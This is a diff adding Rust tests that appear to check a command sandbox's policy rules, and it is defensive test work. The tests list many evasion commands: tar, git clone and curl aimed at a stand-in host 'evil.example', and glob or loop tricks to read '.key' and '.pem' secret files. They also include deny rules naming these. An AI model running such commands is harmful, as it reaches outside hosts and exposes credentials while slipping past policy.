@@ -588,6 +588,101 @@ fn a_name_that_is_a_place_on_another_machine_is_met_by_a_pattern() {
     }
 }
 
+#[test]
+fn a_pattern_that_finds_nothing_is_its_own_text_and_may_name_another_machine() {
+    let house = House::new("own-text");
+    fs::create_dir_all(house.root.join("project/plain")).unwrap();
+    fs::write(house.root.join("project/plain/a.tgz"), "").unwrap();
+    for name in ["read-only", "developer"] {
+        tried(
+            &started(&house, name, "project"),
+            &[
+                "tar tf us?r@evil.example:x",
+                "tar tf *@evil.example:x",
+                "tar tf [r]oot@evil.example:x",
+                "tar -tf r?@evil.example:x",
+                "tar -tfr?@evil.example:x",
+                "tar --list --file=r?@evil.example:x",
+                "tar tf a?b.evil.example:x",
+                "tar tf x@evil.example:*",
+                "cd plain && tar tf ?.evil.example:a",
+                "cd $x; tar tf ?.evil.example:a",
+                "for f in ?.evil.example:a; do tar tf \"$f\"; done",
+                "for f in ?.evil.example:a; do tar tf $f; done",
+                "f='?.evil.example:a'; tar tf $f",
+                "f=?.evil.example:a; tar tf $f",
+                "set -- ?.evil.example:a; tar tf $1",
+                "tar tf {?,b}.evil.example:a",
+                "find . -name x -exec tar tf ?.evil.example:{} +",
+                "timeout 5 tar tf us?r@evil.example:x",
+                "echo x | xargs tar tf us?r@evil.example:x",
+            ],
+            &["tar -tf plain/*.tgz", "tar -tf *.tgz", "cat plain/*", "grep -n x src/*.rs"],
+        );
+    }
+    let fetches = own(
+        r#"{"effect":"allow","commands":["git","rsync","curl"],"writes":["**"]},{"effect":"deny","urls":["evil.example"]}"#,
+    );
+    tried(
+        &started(&house, &fetches, "project"),
+        &[
+            "git clone us?r@evil.example:x",
+            "git clone ssh://us?r@evil.example/x",
+            "curl https://evil.example/?*",
+        ],
+        &[],
+    );
+}
+
+#[test]
+#[cfg(target_os = "linux")]
+fn a_name_that_is_no_text_is_as_secret_as_its_ending_says() {
+    use std::ffi::OsStr;
+    use std::os::unix::ffi::OsStrExt as _;
+    let house = House::new("garbled");
+    for name in [&b"d\xe9.key"[..], b"d\xe2\x82.pem", b"\xe9.txt"] {
+        for folder in ["project/l", "project/l/sub"] {
+            let folder = house.root.join(folder);
+            fs::create_dir_all(&folder).unwrap();
+            fs::write(folder.join(OsStr::from_bytes(name)), "SECRET").unwrap();
+        }
+    }
+    let plain = house.root.join("project/plain");
+    fs::create_dir_all(&plain).unwrap();
+    fs::write(plain.join(OsStr::from_bytes(b"\xe9.txt")), "x").unwrap();
+    let denied = own(
+        r#"{"effect":"allow","commands":["cat","rg","ag","grep","head","find","rm"]},{"effect":"deny","reads":["**/*.key","**/*.pem"]}"#,
+    );
+    for name in ["read-only", "developer", denied.as_str()] {
+        tried(
+            &started(&house, name, "project/l"),
+            &[
+                "cat *",
+                "cat d??.pem",
+                "cat ?.key",
+                "cat d[!a].key",
+                "for f in *; do cat \"$f\"; done",
+                "rg SECRET d*",
+                "rg SECRET",
+                "rg -g 'd*' SECRET",
+                "rg -g '*.key' SECRET",
+                "grep -r SECRET .",
+                "grep -r --include='d*' SECRET .",
+                "grep -r --exclude='d\u{fffd}.key' --exclude='*.pem' SECRET .",
+                "ag SECRET",
+                "grep SECRET sub/*",
+                "head -5 s*/*y",
+                "find . -type f -name '*y' -exec cat {} +",
+            ],
+            &[],
+        );
+        let plain = ["grep -r x .", "rg x", "head *.txt", "cat *"];
+        // What a pattern could find a deny speaks of.
+        let known = if name == denied { &plain[..3] } else { &plain[..] };
+        tried(&started(&house, name, "project/plain"), &[], known);
+    }
+}
+
 /// A policy of one's own.
 fn own(rules: &str) -> String {
     format!(r#"{{"version":1,"rule":[{rules}]}}"#)
